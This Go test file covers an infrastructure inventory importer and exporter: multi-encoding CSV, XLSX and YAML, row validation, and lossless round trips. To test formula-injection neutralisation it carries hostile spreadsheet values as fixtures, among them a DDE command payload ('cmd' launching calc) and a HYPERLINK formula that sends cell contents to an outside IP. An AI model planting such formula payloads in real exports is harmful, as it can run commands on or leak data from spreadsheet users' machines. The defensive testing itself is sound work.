package inventory

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

func readRecords(t *testing.T, data []byte, format string) *ReadResult {
	t.Helper()
	res, err := ReadRecords(bytes.NewReader(data), "in."+format, format)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func fieldsOf(r *Record) map[string]string {
	m := map[string]string{}
	for _, f := range r.Fields {
		m[f.Path] = f.Value
	}
	return m
}

func TestImportPlainCSV(t *testing.T) {
	csv := "name,address,port,user,zone,group\nweb-01,192.0.2.11,2222,ops,intranet,cloud-hosts\nweb-02,192.0.2.12,,root,internet,\"cloud-hosts,dmz\"\n"
	res := readRecords(t, []byte(csv), FormatCSV)
	if res.Encoding != "utf-8" || len(res.Records) != 2 {
		t.Fatalf("encoding %q, %d records", res.Encoding, len(res.Records))
	}
	inv, _ := LoadBytes("empty.yaml", nil)
	plan := inv.PlanImport(res.Records)
	if len(plan.Added) != 2 || len(plan.Bad) != 0 {
		t.Fatalf("plan: %+v", plan)
	}
	// port is the SSH port of a host; kind defaults to host.
	want := map[string]string{"address": "192.0.2.11", "connection.port": "2222", "connection.user": "ops", "zone": "intranet", "groups": "cloud-hosts"}
	if got := fieldsOf(plan.Added[0]); !reflect.DeepEqual(got, want) {
		t.Errorf("row 2 fields %v, want %v", got, want)
	}
	if !reflect.DeepEqual(plan.NewGroups, []string{"cloud-hosts", "dmz"}) {
		t.Errorf("new groups %v", plan.NewGroups)
	}
	// Applied to a new file, the result loads and is what the CSV said.
	path := filepath.Join(t.TempDir(), "inv.yaml")
	inv, err := LoadOrNew(path)
	if err != nil {
		t.Fatal(err)
	}
	ed := inv.Editor()
	if err := ed.ApplyImport(inv.PlanImport(readRecords(t, []byte(csv), FormatCSV).Records), ""); err != nil {
		t.Fatal(err)
	}
	inv2, err := ed.Commit()
	if err != nil {
		t.Fatal(err)
	}
	a := inv2.Asset("web-01")
	if a.Kind != KindHost || a.Connection.Port != 2222 || a.Port != 0 || a.Zone != "intranet" || a.Connection.User != "ops" {
		t.Errorf("web-01: %+v", a)
	}
	if b := inv2.Asset("web-02"); !reflect.DeepEqual(b.Groups, []string{"cloud-hosts", "dmz"}) || b.Connection.Port != 0 {
		t.Errorf("web-02: %+v", b)
	}
}

// A spreadsheet saved by Excel or WPS on Chinese Windows: GB18030 (GBK)
// text, Chinese headers, Chinese values.
func TestImportGB18030ChineseHeaders(t *testing.T) {
	text := "序号,名称,IP地址,端口,用户,区域,分组,所属系统,类型,站点,机房,负责人,重要性,标签,备注\r\n" +
		"1,心电-app-01,192.0.2.31,22,运维,卫生专网,心电服务器,区域心电,云主机,健康云,,张工,核心,科室=心电科;等保=三级,三家中心医院共用\r\n" +
		"2,心电-db-01,192.0.2.32,1433,,卫生专网,心电服务器,区域心电,数据库,本地数据中心,A101,李工,一般,,Windows 服务器上的 SQL Server\r\n"
	gbk, err := simplifiedchinese.GB18030.NewEncoder().Bytes([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(gbk, []byte(text)) {
		t.Fatal("test data is not GB18030-encoded")
	}
	res := readRecords(t, gbk, FormatCSV)
	if res.Encoding != "gb18030" {
		t.Errorf("encoding %q, want gb18030", res.Encoding)
	}
	if len(res.Ignored) != 0 {
		t.Errorf("ignored columns %v", res.Ignored)
	}
	inv := mustLoad(t, "testdata/valid.yaml")
	inv.Systems = append(inv.Systems, &System{Name: "ecg", NameZH: "区域心电", NameEN: "Regional ECG"})
	inv.systemByName["ecg"] = inv.Systems[len(inv.Systems)-1]
	plan := inv.PlanImport(res.Records)
	if len(plan.Bad) != 0 || len(plan.Added) != 2 {
		t.Fatalf("bad %v added %d", plan.Bad, len(plan.Added))
	}
	got := fieldsOf(plan.Added[0])
	want := map[string]string{
		"address": "192.0.2.31", "connection.user": "运维", "groups": "心电服务器",
		"system": "ecg", "site": "健康云", "owner": "张工", "criticality": "core", "labels.科室": "心电科", "labels.等保": "三级",
		"notes": "三家中心医院共用",
		// zone 卫生专网 = intranet, kind 云主机 = host and port 22 are what the
		// defaults already give, so they are not written on the asset.
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("row 2:\n got %v\nwant %v", got, want)
	}
	db := fieldsOf(plan.Added[1])
	if db["kind"] != "database" || db["port"] != "1433" || db["connection.port"] != "" || db["criticality"] != "" || db["room"] != "A101" {
		t.Errorf("row 3 (a database: port is its service port): %v", db)
	}
	// The UTF-8 file with a BOM reads the same.
	res2 := readRecords(t, append([]byte("\ufeff"), text...), FormatCSV)
	fresh := readRecords(t, gbk, FormatCSV)
	if res2.Encoding != "utf-8-bom" || !reflect.DeepEqual(fieldsOf(res2.Records[0]), fieldsOf(fresh.Records[0])) {
		t.Errorf("UTF-8 BOM: %q %v", res2.Encoding, fieldsOf(res2.Records[0]))
	}
}

func TestImportBadRows(t *testing.T) {
	csv := "name,address,port,kind,criticality,labels,password_ref,via\n" +
		"ok-01,192.0.2.1,22,host,core,,,\n" +
		"bad-addr,192.0.2.300,22,,,,,\n" +
		"bad port,192.0.2.3,99999,,,,,\n" +
		"ok-01,192.0.2.4,,,,,,\n" +
		"sw-01,192.0.2.5,,交换机,高危,x,Passw0rd,\n" +
		"jump-01,192.0.2.6,,,,,env:JUMP_PW,nowhere\n" +
		",192.0.2.7,,,,,,\n" +
		"nohost,,,,,,,\n"
	res := readRecords(t, []byte(csv), FormatCSV)
	inv, _ := LoadBytes("empty.yaml", nil)
	plan := inv.PlanImport(res.Records)
	var got []string
	for _, r := range plan.Bad {
		var ps []string
		for _, p := range r.Problems {
			ps = append(ps, p.String())
		}
		got = append(got, strings.Join(append([]string{r.Name}, ps...), " | "))
	}
	want := []string{
		`bad-addr | address "192.0.2.300" is not a valid IPv4 or IPv6 address or DNS name`,
		`bad port | invalid name "bad port" (use letters, digits, '.', '_' and '-') | port "99999" must be a number from 1 to 65535`,
		`ok-01 | name "ok-01" repeats row 2`,
		`sw-01 | invalid criticality "高危" | label "x" must be key=value (several separated by ;) | password_ref must be a reference env:VARIABLE, file:PATH or vault:NAME, never the password itself`,
		`jump-01 | jump host "nowhere" is not in the inventory`,
		` | no name`,
		`nohost | host "nohost" has no address`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("bad rows:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	rows := []int{}
	for _, r := range plan.Bad {
		rows = append(rows, r.Row)
	}
	if !reflect.DeepEqual(rows, []int{3, 4, 5, 6, 7, 8, 9}) {
		t.Errorf("row numbers %v (header is row 1)", rows)
	}
	if len(plan.Added) != 1 || plan.Added[0].Name != "ok-01" {
		t.Errorf("added %v", plan.Added)
	}
}

func TestNeutralize(t *testing.T) {
	for _, s := range []string{"=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'quoted", "''", "'", "plain", "", "a=b"} {
		n := Neutralize(s)
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			t.Errorf("Neutralize(%q) = %q still starts with a formula character", s, n)
		}
		if back := Unneutralize(n); back != s {
			t.Errorf("Unneutralize(Neutralize(%q)) = %q", s, back)
		}
	}
	if Unneutralize("'hand-typed") != "'hand-typed" {
		t.Error("a quote a person typed must stay")
	}
}

// hostileInventory has values a spreadsheet would execute.
const hostileInventory = `
groups:
  g1: {}
systems:
  - name: s1
assets:
  - name: evil-01
    address: 192.0.2.66
    owner: "=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"click\")"
    contact: "+86 10 5555 0101"
    notes: "@SUM(1+1)*cmd|' /C calc'!A0"
    site: "\tDC-1"
    labels: {formula: "-1+2", multi: "a;b=c, d", 科室: 影像科}
    groups: [g1]
    system: s1
    connection: {user: "'ops", port: 2222, password: {env: EVIL_PW}}
  - name: db-01
    kind: database
    address: 2001:db8::5
    port: 5432
    database: {engine: postgresql, user: mon, password: {file: /etc/hcops/db.pw}}
    endpoints: [{url: "https://db.example.org/health", status: 200}]
    checks: {disk: {warn: "80", crit: "90"}, ntp: {disabled: true}}
    criticality: core
    os: {family: kylin, version: V10, arch: aarch64}
`

func TestExportNeutralisesFormulasCSV(t *testing.T) {
	inv, err := LoadBytes("h.yaml", []byte(hostileInventory))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Export(&buf, inv.Assets, ExportOptions{Format: FormatCSV}); err != nil {
		t.Fatal(err)
	}
	text := buf.String()
	if !strings.HasPrefix(text, "\ufeffname,kind,address,") {
		t.Errorf("CSV must start with a BOM and the header: %q", text[:30])
	}
	for _, cell := range []string{`"'=HYPERLINK(`, `,'+86 10 5555 0101,`, `,'@SUM(1+1)`, `""formula"":""-1+2""`, `,''ops,`} {
		if !strings.Contains(text, cell) {
			t.Errorf("export lacks %q", cell)
		}
	}
	res := readRecords(t, buf.Bytes(), FormatCSV)
	// No cell of the export starts with a formula character.
	rows, _ := readRawCSV(buf.Bytes())
	for i, row := range rows {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d col %d %q would run as a formula", i+1, j+1, c)
			}
		}
	}
	// Export then import into the same inventory changes nothing.
	plan := inv.PlanImport(res.Records)
	if len(plan.Unchanged) != 2 || len(plan.Changed)+len(plan.Added)+len(plan.Bad) != 0 {
		t.Errorf("round trip: changed %v added %v bad %v", plan.Changed, plan.Added, plan.Bad)
		for _, c := range plan.Changed {
			t.Logf("%s: %+v", c.Name, c.Changes)
		}
	}
}

func readRawCSV(b []byte) ([][]string, error) {
	text, _, err := decodeText(b)
	if err != nil {
		return nil, err
	}
	var rows [][]string
	for _, line := range strings.Split(strings.TrimSpace(string(text)), "\r\n") {
		rows = append(rows, splitCSVLine(line))
	}
	return rows, nil
}

// splitCSVLine splits one CSV line (quotes honoured) without unquoting the
// leading character checks care about.
func splitCSVLine(line string) []string {
	var out []string
	var cur strings.Builder
	inQ := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case c == '"' && inQ && i+1 < len(line) && line[i+1] == '"':
			cur.WriteByte('"')
			i++
		case c == '"':
			inQ = !inQ
		case c == ',' && !inQ:
			out = append(out, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	return append(out, cur.String())
}

// Every format: export, import into an empty inventory, export again: the
// assets are the same (lossless).
func TestExportImportLossless(t *testing.T) {
	src, err := LoadBytes("h.yaml", []byte(hostileInventory))
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range Formats {
		for _, lang := range []string{"en", "zh"} {
			if lang == "zh" && (format == FormatJSON || format == FormatYAML) {
				continue
			}
			t.Run(format+"-"+lang, func(t *testing.T) {
				var buf bytes.Buffer
				if err := Export(&buf, src.Assets, ExportOptions{Format: format, HeaderLang: lang}); err != nil {
					t.Fatal(err)
				}
				res := readRecords(t, buf.Bytes(), format)
				path := filepath.Join(t.TempDir(), "inv.yaml")
				inv, _ := LoadOrNew(path)
				plan := inv.PlanImport(res.Records)
				if len(plan.Bad) > 0 {
					t.Fatalf("bad rows: %+v", plan.Bad[0].Problems)
				}
				ed := inv.Editor()
				if err := ed.ApplyImport(plan, ""); err != nil {
					t.Fatal(err)
				}
				got, err := ed.Commit()
				if err != nil {
					t.Fatal(err)
				}
				for _, a := range src.Assets {
					b := got.Asset(a.Name)
					if b == nil {
						t.Fatalf("%s lost", a.Name)
					}
					b.Pos = Pos{}
					a2 := *a
					a2.Pos = Pos{}
					if !reflect.DeepEqual(&a2, b) {
						t.Errorf("%s changed through %s:\n got %+v\nwant %+v", a.Name, format, b, &a2)
					}
				}
			})
		}
	}
}

func TestXLSXCellsAreTextAndNeutralised(t *testing.T) {
	src, err := LoadBytes("h.yaml", []byte(hostileInventory))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Export(&buf, src.Assets, ExportOptions{Format: FormatXLSX, HeaderLang: "zh"}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if sheets := f.GetSheetList(); !reflect.DeepEqual(sheets, []string{"资产"}) {
		t.Errorf("sheets %v", sheets)
	}
	if v, _ := f.GetCellValue("资产", "A1"); v != "名称" {
		t.Errorf("A1 = %q", v)
	}
	rows, _ := f.GetRows("资产")
	for i, row := range rows {
		for j, c := range row {
			ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, _ := f.GetCellFormula("资产", ref); formula != "" {
				t.Errorf("%s holds a formula %q", ref, formula)
			}
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s = %q would run as a formula", ref, c)
			}
		}
	}
	// owner column of evil-01.
	if v, _ := f.GetCellValue("资产", "K2"); v != `'=HYPERLINK("http://203.0.113.9/?x="&A1,"click")` {
		t.Errorf("K2 (owner) = %q", v)
	}
}

func TestReadRecordsErrors(t *testing.T) {
	for name, tc := range map[string]struct {
		data   []byte
		format string
		want   string
	}{
		"no name column":   {[]byte("address,port\n192.0.2.1,22\n"), FormatCSV, "no name column in the header row"},
		"two name columns": {[]byte("name,名称\na,b\n"), FormatCSV, `columns 1 and 2 ("name", "名称") both mean name`},
		"not xlsx":         {[]byte("name\nx\n"), FormatXLSX, "not a readable XLSX workbook"},
		"yaml scalar":      {[]byte("just text\n"), FormatYAML, "expected a list of assets"},
		"binary":           {[]byte{0x81, 0x30, 0xff, 0xff, 0x00, 0x81}, FormatCSV, "neither UTF-8 nor GB18030"},
	} {
		_, err := ReadRecords(bytes.NewReader(tc.data), "in", tc.format)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %q", name, err, tc.want)
		}
	}
	// A YAML import names unknown keys per item.
	res := readRecords(t, []byte("- name: a\n  adress: 192.0.2.1\n- name: b\n  address: 192.0.2.2\n"), FormatYAML)
	if len(res.Records) != 2 || len(res.Records[0].Problems) != 1 || !strings.Contains(res.Records[0].Problems[0].Message, `unknown key "adress" (did you mean "address"?)`) {
		t.Errorf("yaml records: %+v", res.Records[0])
	}
	if res.Records[0].Line != 1 || res.Records[1].Line != 3 {
		t.Errorf("lines %d %d", res.Records[0].Line, res.Records[1].Line)
	}
}

// Excel's "Unicode text" export: UTF-16 LE with a BOM, tab-separated.
func TestImportUTF16TabSeparated(t *testing.T) {
	text := "名称\tIP地址\t用户\n" + "pacs-app-09\t192.0.2.99\t运维\n"
	u16 := []byte{0xFF, 0xFE}
	for _, r := range text {
		u16 = append(u16, byte(r), byte(r>>8))
	}
	res := readRecords(t, u16, FormatCSV)
	if res.Encoding != "utf-16" || len(res.Records) != 1 {
		t.Fatalf("encoding %q, %d records", res.Encoding, len(res.Records))
	}
	if got := fieldsOf(res.Records[0]); got["address"] != "192.0.2.99" || got["connection.user"] != "运维" || res.Records[0].Name != "pacs-app-09" {
		t.Errorf("fields %v", got)
	}
}

// TestExportZHValues: --header-lang zh writes the fixed vocabularies in
// Chinese too (a sheet with 类型/重要性/区域 headers and "host", "core",
// "intranet" below them reads as half-translated), and import reads them
// back to the same assets.
func TestExportZHValues(t *testing.T) {
	src, err := LoadBytes("z.yaml", []byte(`assets:
  - name: web-01
    address: 192.0.2.10
    zone: internet
    criticality: core
    connection: {agent: false, become: true}
  - name: db-01
    kind: database
    address: 192.0.2.11
    zone: intranet
    criticality: non-core
  - name: fw-01
    kind: security-device
    address: 192.0.2.12
    zone: dmz
`))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Export(&buf, src.Assets, ExportOptions{Format: FormatCSV, HeaderLang: "zh"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, tc := range []struct {
		row              int
		kind, crit, zone string
		agent, become    string
	}{
		{1, "主机", "核心", "互联网", "否", "是"},
		{2, "数据库", "非核心", "卫生专网", "", ""},
		{3, "安全设备", "", "dmz", "", ""}, // a site's own zone stays as written
	} {
		r := rows[tc.row]
		got := []string{r[col["类型"]], r[col["重要性"]], r[col["区域"]], r[col["SSH代理"]], r[col["提权"]]}
		want := []string{tc.kind, tc.crit, tc.zone, tc.agent, tc.become}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("row %d: %q, want %q", tc.row, got, want)
		}
	}
	res := readRecords(t, buf.Bytes(), FormatCSV)
	plan := src.PlanImport(res.Records)
	if len(plan.Bad) > 0 || len(plan.Changed) > 0 || len(plan.Unchanged) != 3 {
		t.Errorf("re-import of the zh export: bad %d, changed %+v, unchanged %d", len(plan.Bad), plan.Changed, len(plan.Unchanged))
	}
}
